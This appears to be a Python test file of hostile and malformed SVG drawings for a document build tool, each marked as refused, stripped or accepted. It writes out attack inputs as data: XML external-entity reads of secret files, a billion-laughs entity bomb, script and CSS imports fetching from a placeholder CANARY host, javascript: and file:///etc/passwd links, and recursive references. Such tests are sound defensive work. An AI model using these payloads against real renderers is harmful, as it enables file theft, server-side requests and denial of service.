"""Drawings that are hostile or odd, and what must come of each."""

from __future__ import annotations

import base64

from photographs import photograph
from texts import chapter
from trial import AUTHOR, Case

_FIGURE = chapter("![A loaf of bread on a table](images/a.svg)")
_SPACES = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'


def svg(inner: str, attributes: str = 'viewBox="0 0 100 100"', before: str = "") -> str:
    """A drawing."""
    return f'{before}<svg {_SPACES} {attributes}>{inner}<path d="M10 10h80v80z" fill="#000"/></svg>'


def _fine(name: str, drawing: str | bytes, *said: str) -> Case:
    files = {"body/01-bread.md": _FIGURE, "images/a.svg": drawing}
    return Case(name=f"drawing: {name}", files=files, said=frozenset(said))


def _refused(name: str, drawing: str | bytes, *said: str) -> Case:
    files = {"body/01-bread.md": _FIGURE, "images/a.svg": drawing}
    return Case(name=f"drawing: {name}", files=files, said=frozenset(said or {"picture-unreadable"}), refused=True)


def _cut(name: str, drawing: str) -> Case:
    """A drawing that is made without what may not be in it, and that says so."""
    return _fine(name, drawing, "picture-cut")


def _nested(levels: int, each: int) -> str:
    groups = "".join(f'<g id="l{level}">' + f'<use href="#l{level + 1}"/>' * each + "</g>" for level in range(levels))
    return svg(f'<defs>{groups}<path id="l{levels}" d="M0 0h1"/></defs><use href="#l0"/>')


def _in_itself(kind: str, text: str) -> str:
    return "data:" + kind + ";base64," + base64.b64encode(text.encode()).decode()


_LAUGHS = '<!DOCTYPE svg [<!ENTITY a "lol">' + "".join(
    f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)
) + "]>"  # fmt: skip

_OUT = {
    "picture of a host": '<image href="http://CANARY/x.png" width="9" height="9"/>',
    "picture of a host, by the old name": '<image xlink:href="http://CANARY/x.png" width="9" height="9"/>',
    "picture of the machine": '<image href="file://OUTSIDE/secret.svg" width="9" height="9"/>',
    "picture of the machine, relative": '<image href="../../../outside/secret.svg" width="9" height="9"/>',
    "use of a file": '<use href="OUTSIDE/secret.svg#x"/>',
    "drawing within, as data": f'<image href="{_in_itself("image/svg+xml", svg(""))}" width="9" height="9"/>',
    "page within, as data": '<image href="data:text/html,x" width="9" height="9"/>',
    "picture within that is none": '<image href="data:image/png;base64,AAAA" width="9" height="9"/>',
    "text/css as data": '<image href="data:text/css;base64,AAAA" width="9" height="9"/>',
    "page in a drawing": '<foreignObject width="90" height="90"><p xmlns="http://www.w3.org/1999/xhtml">Words</p></foreignObject>',
    "audio": '<audio xmlns="http://www.w3.org/1999/xhtml" src="http://CANARY/x.mp3"/>',
    "iframe": '<iframe xmlns="http://www.w3.org/1999/xhtml" src="http://CANARY/x"/>',
    "gradient of another file": '<linearGradient id="g" href="http://CANARY/x.svg#g"/>',
    "path of a text elsewhere": '<text><textPath href="http://CANARY/x.svg#p">Words</textPath></text>',
    "XInclude, of another name": "<xi:include xmlns:xi='http://www.w3.org/1999/xhtml' href='OUTSIDE/secret.txt'/>",
}  # fmt: skip

_CUT = {
    "script": "<script>fetch('http://CANARY/x')</script>",
    "script from a host": '<script href="http://CANARY/x.js"/>',
    "script of another name": '<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>',
    "handler": '<rect width="9" height="9" onclick="alert(1)" onload="fetch(1)"/>',
    "handler in capitals": '<rect width="9" height="9" OnLoad="fetch(1)"/>',
    "link": '<a href="javascript:alert(1)"><rect width="9" height="9"/></a>',
    "link to a file": '<a xlink:href="file:///etc/passwd"><text y="9" font-family="Nowhere Sans">Words</text></a>',
    "link to a page": '<a href="https://example.org"><text y="9" font-family="Nowhere Sans">Words</text></a>',
    "link animated": '<a><set attributeName="href" to="javascript:alert(1)"/><rect width="9" height="9"/></a>',
    "import": "<style>@import url(http://CANARY/x.css);</style>",
    "import, escaped": "<style>@\\69mport 'http://CANARY/x.css';</style>",
    "import of the machine": "<style>@import 'file://OUTSIDE/secret.css';</style>",
    "font of a host": "<style>@font-face{font-family:x;src:url(http://CANARY/x.ttf)}</style>",
    "background of a host": "<style>rect{fill:url(http://CANARY/x#a)}</style><rect width='9' height='9'/>",
    "address, escaped": "<style>rect{fill:\\75rl(http://CANARY/x#a)}</style><rect width='9' height='9'/>",
    "address in an attribute": '<rect width="9" height="9" fill="url(http://CANARY/x#a)"/>',
    "address in a style": '<rect width="9" height="9" style="fill:red;mask:url(http://CANARY/x#a)"/>',
    "mask of a file": '<rect width="9" height="9" mask="url(file://OUTSIDE/secret.svg#a)"/>',
    "filter with a picture": '<filter id="f"><feImage href="http://CANARY/x.png"/></filter><rect width="9" height="9" filter="url(#f)"/>',
}  # fmt: skip

_SIZES = {
    "view of infinity": 'viewBox="0 0 inf 10"',
    "view of 1e308": 'viewBox="0 0 1e308 10"',
    "view of 1e-300": 'viewBox="0 0 1e-300 1e-300"',
    "view of no number": 'viewBox="0 0 nan nan"',
    "view without width": 'viewBox="0 0 0 10"',
    "view below nought": 'viewBox="0 0 -10 -10"',
    "no size": "",
    "size in percent": 'width="100%" height="100%"',
    "ten million to one": 'viewBox="0 0 10000000 1"',
    "one to ten million": 'viewBox="0 0 1 10000000"',
    "numbers of 400 figures": f'width="{"9" * 400}" height="{"9" * 400}"',
}

DRAWINGS = (
    *(_refused(name, svg(inner)) for name, inner in _OUT.items()),
    *(_cut(name, svg(inner)) for name, inner in _CUT.items()),
    *(_refused(name, svg("", size)) for name, size in _SIZES.items()),
    _refused("laughs", svg("<text>&j;</text>", before=_LAUGHS)),
    _refused("quadratic entity", svg("<text>" + "&a;" * 5_000 + "</text>", before=f'<!DOCTYPE svg [<!ENTITY a "{"b" * 50_000}">]>')),
    _refused("entity of a file", svg("<text>&e;</text>", before='<!DOCTYPE svg [<!ENTITY e SYSTEM "OUTSIDE/secret.txt">]>')),
    _refused("parameter entity", svg("", before='<!DOCTYPE svg [<!ENTITY % e SYSTEM "http://CANARY/x.dtd"> %e;]>')),
    _fine("doctype of the standard", svg("", before='<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://CANARY/svg11.dtd">')),
    _refused("doctype of a file with an entity of it", svg("<text>&e;</text>", before='<!DOCTYPE svg SYSTEM "OUTSIDE/secret.txt">')),
    _fine("style sheet of a host", svg("", before='<?xml-stylesheet href="http://CANARY/x.css"?>')),
    _fine("base elsewhere", svg('<g xml:base="http://CANARY/"><use href="#x"/></g><path id="x" d="M0 0h1"/>')),
    _fine("author and path in its metadata", svg(
        f'<metadata><creator xmlns="http://purl.org/dc/elements/1.1/">{AUTHOR}</creator></metadata>'
        f'<!-- made by {AUTHOR} --><desc>by {AUTHOR}</desc><rect width="9" height="9" data-name="{AUTHOR}"/>',
        f'viewBox="0 0 100 100" xmlns:s="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" s:docname="/home/{AUTHOR}/a.svg"')),
    _fine("picture within, with the author's name", svg(
        f'<image href="data:image/jpeg;base64,{base64.b64encode(photograph("JPEG", 60, 60, author=True)).decode()}" width="50" height="50"/>')),
    _refused("uses of uses, ten thousand million", _nested(10, 10)),
    _refused("uses of uses, a million", _nested(6, 10)),
    _fine("uses of uses, a thousand", _nested(3, 10)),
    _refused("use of itself", svg('<g id="a"><use href="#a"/></g>')),
    _refused("uses of each other", svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>')),
    _refused("pattern of itself", svg('<pattern id="a" width="1" height="1"><rect width="1" height="1" fill="url(#a)"/></pattern><rect width="9" height="9" fill="url(#a)"/>')),
    _refused("gradient of itself", svg('<linearGradient id="a" href="#a"/><rect width="9" height="9" fill="url(#a)"/>')),
    _refused("mask of itself", svg('<mask id="a"><rect width="9" height="9" mask="url(#a)"/></mask><rect width="9" height="9" mask="url(#a)"/>')),
    _refused("marker of itself", svg('<marker id="a"><path d="M0 0h1" marker-start="url(#a)"/></marker><path d="M0 0h1" marker-start="url(#a)"/>')),
    _refused("markers on markers", svg("".join(
        f'<marker id="m{n}"><path d="{"M0 0h1" * 60}" marker-mid="url(#m{n + 1})" marker-start="url(#m{n + 1})"/></marker>' for n in range(6))
        + f'<path d="{"M0 0h1" * 60}" marker-mid="url(#m0)"/>')),
    _refused("groups, 2,000 in one another", svg("<g>" * 2_000 + "</g>" * 2_000)),
    _refused("rectangles, 300,000", svg("<rect width='1' height='1'/>" * 300_000)),
    _fine("rectangles, 5,000", svg("<rect width='1' height='1'/>" * 5_000)),
    _fine("path of a million points", svg('<path d="M0 0' + "h1" * 100_000 + '"/>')),
    _fine("pattern of nothing", svg('<pattern id="a" width="0" height="0"/><rect width="9" height="9" fill="url(#a)"/>')),
    _fine("pattern of a hair", svg('<pattern id="a" width="0.000001" height="0.000001"><rect width="1" height="1"/></pattern><rect width="90" height="90" fill="url(#a)"/>')),
    _refused("numbers that no PDF can hold", svg('<line x1="1e308" x2="-1e308" stroke="#000"/><path d="M 0 1e99"/>')),
    _fine("numbers that are none", svg('<rect width="9" height="NaN" x="--"/><circle r="-1"/><path d="M x y z"/>')),
    _fine("dashes of nought", svg('<path d="M0 0h90" stroke="#000" stroke-dasharray="0 0"/><path d="M0 0h90" stroke="#000" stroke-dasharray="0.0001"/>')),
    _refused("transforms that are none", svg('<rect width="9" height="9" transform="scale(0)"/><rect width="9" height="9" transform="matrix(1 2 3)"/><rect width="9" height="9" transform="rotate(x)"/>'), "layout"),
    _fine("letters of no face", svg('<text y="60" font-family="Nowhere Sans">Words</text>')),
    _fine("XInclude", svg('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="OUTSIDE/secret.txt"/>')),
    _refused("empty", ""),
    _refused("half", svg("")[:60]),
    _refused("page of the web", "<html><body>Words</body></html>"),
    _refused("noise behind the end", svg("") + "<script/>"),
    _refused("in UTF-7", b"<?xml version='1.0' encoding='UTF-7'?>" + svg("").encode()),
    _refused("in UTF-16", svg("", before="<?xml version='1.0' encoding='UTF-16'?>").encode("utf-16")),
    _fine("with a prefix", '<s:svg xmlns:s="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><s:path d="M0 0h9v9z"/></s:svg>'),
    _refused("of no namespace", '<svg viewBox="0 0 9 9"><path d="M0 0h9v9z"/></svg>'),
    _refused("packed", b"\x1f\x8b\x08\x00" + bytes(60)),
)  # fmt: skip
